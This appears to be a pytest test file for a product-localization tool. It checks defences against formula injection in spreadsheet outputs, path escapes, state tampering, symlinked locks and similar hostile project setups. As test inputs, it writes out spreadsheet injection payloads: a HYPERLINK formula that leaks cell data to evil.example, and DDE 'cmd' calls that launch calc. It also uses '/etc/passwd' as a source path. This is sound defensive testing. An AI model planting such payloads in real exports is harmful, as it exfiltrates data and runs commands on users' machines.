"""Hostile projects, by class: formulas in every tabular output, outputs over inputs, paths outside
the project, a state file edited by hand, a lock file that is a link, empty exports, output
folders shared by two configs, a folder where an output file should be."""

from __future__ import annotations

import csv
import fcntl
import hashlib
import io
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from localize.api import run
from localize.cells import is_formula_like, neutralise, neutralise_for_google, unneutralise
from localize.config import load_config
from localize.errors import ConfigError, OutputError
from localize.pipeline.lock import LockedError, RunLock
from localize.pipeline.publish import GENERATIONS, EmptyRunError, Generation
from localize.stages import RunOptions

HOSTILE = {
    "=1+2": "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Details\")",
    "H-TAB": "\t=1+1",
    "H-CR": "\r+cmd|' /C calc'!A0",
    "H-AT": " @SUM(A1:A9)",
    "H-MINUS": "-2+3+cmd|' /C calc'!A0",
    "H-WIDE": "\uff1d1+1",
}


def spreadsheet_runs(cell: str) -> bool:
    """What Excel, LibreOffice and Sheets execute: a cell starting with = + - @ (or a full-width
    form), or with a tab or CR (OWASP's list)."""
    return bool(cell) and cell[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20"


def hostile_project(folder: Path, formats: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    rows = ["sku;family;categories;name-de_DE;description-de_DE-ecommerce;brand;price-EUR;weight;weight-unit"]
    rows.append('"=1+2";shirts;apparel;Hemd;Ein Hemd;ACME;19.99;200;GRAM')
    for sku, name in HOSTILE.items():
        if sku != "=1+2":
            rows.append(f'{sku};shirts;apparel;"{name}";"{name}";ACME;19.99;200;GRAM')
    (folder / "products.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    (folder / "memory.tmx").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n<tmx version="1.4"><header srclang="de-DE" segtype="paragraph" '
        'o-tmf="x" adminlang="en" creationtool="t" creationtoolversion="1" datatype="plaintext"/><body>'
        '<tu><tuv xml:lang="de-DE"><seg>Hemd</seg></tuv><tuv xml:lang="en-US"><seg>=cmd|\' /C calc\'!A0</seg></tuv></tu>'
        '<tu><tuv xml:lang="de-DE"><seg>Ein Hemd</seg></tuv><tuv xml:lang="en-US"><seg>@A shirt</seg></tuv></tu>'
        "</body></tmx>\n", encoding="utf-8")
    config = folder / "localize.yaml"
    config.write_text(
        "source: {format: akeneo-csv, path: products.csv, locale: de_DE, channel: ecommerce}\n"
        "markets: [{locale: en-US}]\n"
        f"outputs: {{dir: out, formats: {formats}}}\n"
        "translation: {memory_files: [memory.tmx]}\n"
        "rejects: {fail_run: false}\n"
        "validate:\n  checks: {gm-identifiers: off, gm-gtin: off}\n"
        "  google_merchant: {link: 'https://shop.example/p/{identifier}', image_link: 'https://cdn.example/{identifier}.jpg'}\n",
        encoding="utf-8")
    return config


# -- formulas in every tabular output --------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\u3000=1",
                                   "\n@x", "\uff1d1"])
def test_every_formula_form_is_neutralised_and_round_trips(value: str) -> None:
    assert is_formula_like(value)
    assert not spreadsheet_runs(neutralise(value))
    assert unneutralise(neutralise(value)) == value
    google = neutralise_for_google(" ".join(value.split()))
    assert not spreadsheet_runs(google) and google.strip() == " ".join(value.split())


@pytest.mark.parametrize("value", ["Hemd", "1+1", "a=b", "'quoted", "", "12.50 EUR"])
def test_plain_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value == unneutralise(value) == neutralise_for_google(value)


def test_no_tabular_output_carries_a_formula(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    config = hostile_project(tmp_path, "[jsonl, csv, xlsx, akeneo-csv, google-merchant-tsv]")
    report = run(load_config(config))
    assert report.markets["en-US"].written + report.markets["en-US"].withheld == len(HOSTILE)
    out = tmp_path / "out"
    tables = {
        "en-US.csv": list(csv.reader(io.StringIO((out / "en-US.csv").read_text(encoding="utf-8-sig")))),
        "en-US.akeneo.csv": list(csv.reader(io.StringIO((out / "en-US.akeneo.csv").read_text(encoding="utf-8")),
                                            delimiter=";")),
        "google-en-US.tsv": [line.split("\t") for line in (out / "google-en-US.tsv").read_text(encoding="utf-8")
                             .splitlines()],
    }
    for name, rows in tables.items():
        assert len(rows) > 1, name
        # the Akeneo import is read by Akeneo, which stores a cell as written: its copy carries no guard
        # (tests/core/test_core_formula_guard.py), its identifiers do
        cells = [row[0] for row in rows] if name.endswith(".akeneo.csv") else [cell for row in rows for cell in row]
        bad = [cell for cell in cells if spreadsheet_runs(cell)]
        assert bad == [], name
    # the memory's `=cmd|...` reached the Akeneo file as the memory wrote it, under its guarded identifier
    akeneo = {row[0]: row for row in tables["en-US.akeneo.csv"][1:]}
    assert "=cmd|' /C calc'!A0" in akeneo["'=1+2"]
    # Google reads each value unchanged once it strips the leading space
    google = tables["google-en-US.tsv"]
    ids = [row[google[0].index("id")].strip() for row in google[1:]]
    assert "=1+2" in ids
    sheet = load_workbook(out / "en-US.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row]
    # XLSX says each cell's type: no formula cell, the text as written in string cells, and the ones a
    # person re-typing would start a formula with carry Excel's quote prefix
    assert not [c.value for c in cells if c.data_type == "f"]
    formula_like = [c for c in cells if isinstance(c.value, str) and spreadsheet_runs(c.value)]
    assert "=1+2" in [c.value for c in formula_like]
    assert all(c.data_type == "s" and c.quotePrefix for c in formula_like), [c.value for c in formula_like]


def test_the_review_sheets_neutralise_whitespace_prefixed_formulas() -> None:
    from localize.review import export

    assert export.neutralise is neutralise  # one function for every writer
    assert export.neutralise(" =1+1") == "' =1+1"


# -- outputs never overwrite inputs ----------------------------------------------------------


def plain_project(folder: Path, outputs: str = "out", state: str = ".localize", source: str = "products.csv",
                  extra: str = "", market: str = "en-US") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    src = folder / source
    src.parent.mkdir(parents=True, exist_ok=True)
    src.write_text("sku;name-de_DE;price-EUR\nA1;Hemd;19.99\nA2;Hose;29.99\n", encoding="utf-8")
    config = folder / "localize.yaml"
    config.write_text(f"source: {{format: akeneo-csv, path: {source}, locale: de_DE}}\n"
                      f"markets: [{{locale: {market}}}]\noutputs: {{dir: {outputs}, formats: [jsonl, csv]}}\n"
                      f"state: {state}\n{extra}", encoding="utf-8")
    return config


@pytest.mark.parametrize(("outputs", "state", "source", "message"), [
    (".", ".localize", "en-US.csv", "is inside the output folder"),
    ("data", ".localize", "data/products.csv", "is inside the output folder"),
    ("out", "out", "products.csv", "overlap"),
    ("out", "out/state", "products.csv", "overlap"),
    ("out", "data", "data/products.csv", "is inside the state folder"),
])
def test_outputs_and_state_that_overlap_an_input_are_refused(tmp_path: Path, outputs: str, state: str, source: str,
                                                             message: str) -> None:
    config = plain_project(tmp_path, outputs, state, source)
    before = (tmp_path / source).read_bytes()
    proc = subprocess.run([sys.executable, "-m", "localize", "run", str(config)], capture_output=True, text=True,
                          cwd=tmp_path, timeout=300)
    assert proc.returncode == 2, proc.stderr
    assert "outputs would overwrite inputs" in proc.stderr and message in proc.stderr
    assert (tmp_path / source).read_bytes() == before
    assert not (tmp_path / outputs / GENERATIONS).exists()


# -- paths outside the config's folder -------------------------------------------------------


def test_a_config_cannot_read_outside_its_folder_unless_it_says_so(tmp_path: Path) -> None:
    secret = tmp_path / "elsewhere" / "secret.csv"
    secret.parent.mkdir()
    secret.write_text("sku;name-de_DE\nS1;geheim\n", encoding="utf-8")
    project = tmp_path / "project"
    for source in (str(secret), "../elsewhere/secret.csv", "/etc/passwd"):
        # the pseudo engine: en-US publishes what it read (a market that publishes nothing exits 1)
        config = plain_project(project, extra="translation: {engine: pseudo}\n")
        config.write_text(config.read_text().replace("path: products.csv", f"path: '{source}'"), encoding="utf-8")
        with pytest.raises(ConfigError) as info:
            load_config(config)
        text = str(info.value)
        assert f"source.path: {source} is outside the config file's folder" in text
        assert "allow_outside: true" in text
    config.write_text(config.read_text().replace("/etc/passwd", "../elsewhere/secret.csv") + "allow_outside: true\n",
                      encoding="utf-8")
    assert run(load_config(config)).markets["en-US"].read == 1  # read: the config allowed it
    # the same config and --allow-outside on the command line
    config.write_text(config.read_text().replace("allow_outside: true\n", ""), encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "localize", "--quiet", "run", str(config)], capture_output=True,
                          text=True, timeout=300)
    assert proc.returncode == 2 and "outside the config file's folder" in proc.stderr
    proc = subprocess.run([sys.executable, "-m", "localize", "--quiet", "run", str(config), "--allow-outside"],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr


def test_outputs_state_and_rule_packs_outside_are_refused_too(tmp_path: Path) -> None:
    config = plain_project(tmp_path / "p", outputs="../shared-out", state="/tmp/elsewhere-state",
                           extra="rules: {packs: [../packs]}\n")
    with pytest.raises(ConfigError) as info:
        load_config(config)
    assert [p.split(":")[0] for p in info.value.problems] == ["outputs.dir", "state", "rules.packs[0]"]


def test_command_line_paths_and_quick_runs_are_not_confined(tmp_path: Path) -> None:
    config = plain_project(tmp_path / "p", extra="translation: {engine: pseudo}\n")
    out = tmp_path / "elsewhere-out"
    proc = subprocess.run([sys.executable, "-m", "localize", "--quiet", "run", str(config), "--out", str(out)],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert (out / "en-US.jsonl").is_file()


# -- integrity of the incremental state ------------------------------------------------------


def test_a_value_edited_inside_the_state_is_not_published(tmp_path: Path) -> None:
    config = plain_project(tmp_path, market="de-DE")  # the source's own language: published as is
    run(load_config(config))
    feed = (tmp_path / "out" / "de-DE.jsonl").read_bytes()
    assert b"19.99" in feed and b"99.99" not in feed
    db = sqlite3.connect(tmp_path / ".localize" / "state.sqlite")
    changed = db.execute("UPDATE records SET payload = CAST(REPLACE(CAST(payload AS TEXT), '19.99', '99.99') AS BLOB)"
                         " WHERE identifier = 'A1'").rowcount
    db.commit()
    db.close()
    assert changed == 1
    report = run(load_config(config))  # nothing changed: the last run's files are published again
    assert report.sections["reused_run"] and (tmp_path / "out" / "de-DE.jsonl").read_bytes() == feed
    (tmp_path / "out" / ".current" / "de-DE.jsonl").unlink()  # now the records are read from the state
    report = run(load_config(config))
    assert (tmp_path / "out" / "de-DE.jsonl").read_bytes() == feed
    assert report.sections["incremental"]["checksum_failures"] == 1
    assert report.sections["incremental"]["reused"] == 1
    assert any("failed their checksum" in w and "A1" in w for w in report.warnings)


# -- the lock file ---------------------------------------------------------------------------


def test_the_lock_never_follows_a_link_or_truncates_its_target(tmp_path: Path) -> None:
    victim = tmp_path / "precious.txt"
    victim.write_text("do not truncate me\n", encoding="utf-8")
    state = tmp_path / "state"
    state.mkdir()
    (state / "lock").symlink_to(victim)
    with pytest.raises(LockedError) as info:
        RunLock(state).acquire()
    assert "symbolic link" in str(info.value)
    assert victim.read_text(encoding="utf-8") == "do not truncate me\n"


# -- a folder where an output file should be -------------------------------------------------


def test_a_folder_in_place_of_an_output_fails_before_anything_is_replaced(tmp_path: Path) -> None:
    config = plain_project(tmp_path)
    run(load_config(config))
    out = tmp_path / "out"
    before = {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()}
    (tmp_path / "products.csv").write_text("sku;name-de_DE;price-EUR\nA1;Hemd neu;19.99\nA2;Hose;29.99\n",
                                           encoding="utf-8")
    (out / "rejects.jsonl").unlink()
    (out / "rejects.jsonl").mkdir()
    del before["rejects.jsonl"]
    proc = subprocess.run([sys.executable, "-m", "localize", "run", str(config)], capture_output=True, text=True,
                          timeout=300)
    assert proc.returncode == 3
    assert f"{out / 'rejects.jsonl'}: a folder stands where this output file should be; nothing was replaced" \
        in proc.stderr
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == before


def test_a_folder_that_appears_during_the_run_fails_the_switch_before_any_change(tmp_path: Path) -> None:
    out = tmp_path / "out"
    first = Generation(out, "20260101T000000Z-0001")
    (first.dir / "a.jsonl").write_text("old a\n")
    (first.dir / "b.jsonl").write_text("old b\n")
    first.publish()
    second = Generation(out, "20260102T000000Z-0002")
    (second.dir / "a.jsonl").write_text("new a\n")
    (second.dir / "b.jsonl").write_text("new b\n")
    (second.dir / "c.jsonl").write_text("new c\n")
    (out / "c.jsonl").mkdir()
    with pytest.raises(OutputError) as info:
        second.publish()
    assert "a folder stands where this output file should be; nothing was replaced" in str(info.value)
    second.abort()
    assert (out / "a.jsonl").read_text() == "old a\n" and (out / "b.jsonl").read_text() == "old b\n"
    assert os.readlink(out / ".current") == f"{GENERATIONS}/20260101T000000Z-0001"


# -- generations: keep count, carried-over files, shared folders -----------------------------


def test_the_last_generations_are_kept_and_older_ones_pruned(tmp_path: Path) -> None:
    config = plain_project(tmp_path, extra="")
    for n in range(4):
        (tmp_path / "products.csv").write_text(f"sku;name-de_DE;price-EUR\nA1;Hemd {n};19.99\n", encoding="utf-8")
        run(load_config(config))
    root = tmp_path / "out" / GENERATIONS
    kept = sorted(p.name for p in root.iterdir() if p.is_dir())
    assert len(kept) == 2 and sorted((root / "published").read_text().split()) == kept
    previous = (root / "published").read_text().split()[0]
    assert b"Hemd 2" in (root / previous / "review-queue.jsonl").read_bytes()  # the previous run's output
    config.write_text(config.read_text().replace("formats: [jsonl, csv]", "formats: [jsonl, csv], keep: 3"),
                      encoding="utf-8")
    for n in range(2):
        (tmp_path / "products.csv").write_text(f"sku;name-de_DE;price-EUR\nA1;Jacke {n};19.99\n", encoding="utf-8")
        run(load_config(config))
    assert len([p for p in root.iterdir() if p.is_dir()]) == 3


def test_two_configs_sharing_an_output_folder_keep_each_others_files(tmp_path: Path) -> None:
    shared = tmp_path / "p"
    a = plain_project(shared)
    b = shared / "b.yaml"
    b.write_text(a.read_text().replace("locale: en-US", "locale: fr-FR").replace("state: .localize", "state: .state-b"),
                 encoding="utf-8")
    run(load_config(a))
    run(load_config(b))
    out = shared / "out"
    assert (out / "en-US.jsonl").is_file() and (out / "fr-FR.jsonl").is_file()
    # B's manifest lists A's feed as carried over, with the bytes readers see
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    carried = {Path(e["path"]).name: e["sha256"] for e in manifest["carried_over"]}
    assert carried["en-US.jsonl"] == hashlib.sha256((out / "en-US.jsonl").read_bytes()).hexdigest()
    assert "fr-FR.jsonl" in {Path(e["path"]).name for e in manifest["outputs"]}
    run(load_config(a))
    assert (out / "fr-FR.jsonl").is_file()


def test_a_generation_another_run_is_building_is_never_removed(tmp_path: Path) -> None:
    config = plain_project(tmp_path)
    run(load_config(config))
    root = tmp_path / "out" / GENERATIONS
    (root / "29990101T000000Z-live").mkdir()
    (root / "29990101T000000Z-live" / "en-US.jsonl").write_text("being written\n")
    holder = os.open(root / "29990101T000000Z-live.lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(holder, fcntl.LOCK_EX)
    script = ("import fcntl, os, sys, time; fd = os.open(sys.argv[1], os.O_RDWR); fcntl.flock(fd, fcntl.LOCK_EX); "
              "print('locked', flush=True); sys.stdin.read()")
    os.close(holder)
    proc = subprocess.Popen([sys.executable, "-c", script, str(root / "29990101T000000Z-live.lock")],
                            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None and proc.stdout.readline().strip() == "locked"
        (root / "19990101T000000Z-dead").mkdir()  # a killed run's: no lock holder
        run(load_config(config))
        assert (root / "29990101T000000Z-live" / "en-US.jsonl").is_file()
        assert not (root / "19990101T000000Z-dead").exists()
    finally:
        proc.communicate("", timeout=30)
    run(load_config(config))
    assert not (root / "29990101T000000Z-live").exists()


# -- an empty export does not replace full feeds ---------------------------------------------


def test_a_header_only_export_does_not_replace_full_feeds(tmp_path: Path) -> None:
    config = plain_project(tmp_path)
    run(load_config(config))
    out = tmp_path / "out"
    before = (out / "en-US.jsonl").read_bytes()
    (tmp_path / "products.csv").write_text("sku;name-de_DE;price-EUR\n", encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "localize", "run", str(config)], capture_output=True, text=True,
                          timeout=300)
    assert proc.returncode == 1, proc.stderr
    assert "this run has no record to publish for en-US (2 record(s) in its feed and review queue now)" in proc.stderr
    assert "--allow-empty" in proc.stderr
    assert (out / "en-US.jsonl").read_bytes() == before
    with pytest.raises(EmptyRunError):
        run(load_config(config))
    report = run(load_config(config), RunOptions(allow_empty=True))
    assert report.exit_code == 0 and (out / "en-US.jsonl").read_bytes() == b""


# -- a full disk always names the file -------------------------------------------------------


def test_a_full_disk_while_spooling_names_the_file(tmp_path: Path) -> None:
    from localize.channels.spool import RowSpool

    spool = RowSpool(tmp_path)
    spool.handle.close()
    spool.handle = open("/dev/full", "w", encoding="utf-8")  # noqa: SIM115 - a real ENOSPC from the kernel
    with pytest.raises(OutputError) as info:
        for _ in range(10_000):
            spool.add({"identifier": "x" * 100})
        spool.rows().__next__()
    assert str(spool.path) in str(info.value) and "the disk is full" in str(info.value)
    spool.discard()


@pytest.mark.parametrize("folder", [".", "out", ".localize", "out/review"])
def test_review_exports_never_overlap_the_project_outputs_or_state(tmp_path: Path, folder: str) -> None:
    config = plain_project(tmp_path)
    before = config.read_bytes()
    proc = subprocess.run([sys.executable, "-m", "localize", "review", "export", str(config), "--out", folder],
                          capture_output=True, text=True, cwd=tmp_path, timeout=300)
    assert proc.returncode == 2, proc.stderr
    assert f"--out {folder}: review files would overwrite other files" in proc.stderr
    assert config.read_bytes() == before and not (tmp_path / folder / "review.csv").exists()


def test_a_full_disk_under_the_identifier_index_names_the_file() -> None:
    from localize.model import Origin, Product
    from localize.pipeline.source import IdentifierIndex

    index = IdentifierIndex()
    try:
        index._db.execute("PRAGMA max_page_count = 2")  # SQLite's own "database or disk is full"
        products = [Product(identifier=f"SKU-{n:06d}-" + "x" * 40, origin=Origin("p.csv", n)) for n in range(2000)]
        with pytest.raises(OutputError) as info:
            index.check_and_add(products)
        assert "ids.sqlite: cannot write the identifier index: database or disk is full" in str(info.value)
        assert "TMPDIR" in str(info.value)
    finally:
        index.close()


def test_an_output_file_is_written_in_large_chunks(tmp_path: Path) -> None:
    """Feed lines (~1-2 KB) go to the disk in 128 KiB chunks, not one write call every few lines; the
    file appears whole on commit either way."""
    from localize.atomic import AtomicFile

    out = AtomicFile(tmp_path / "feed.jsonl", mode="wb", encoding=None)
    line = b'{"identifier":"P1","values":{"description":"' + b"x" * 1400 + b'"}}\n'
    for _ in range(60):  # 87 KB: one chunk
        out.write(line)
    assert out.tmp.stat().st_size == 0
    for _ in range(60):
        out.write(line)
    assert 0 < out.tmp.stat().st_size < 120 * len(line)
    assert out.commit().read_bytes() == line * 120
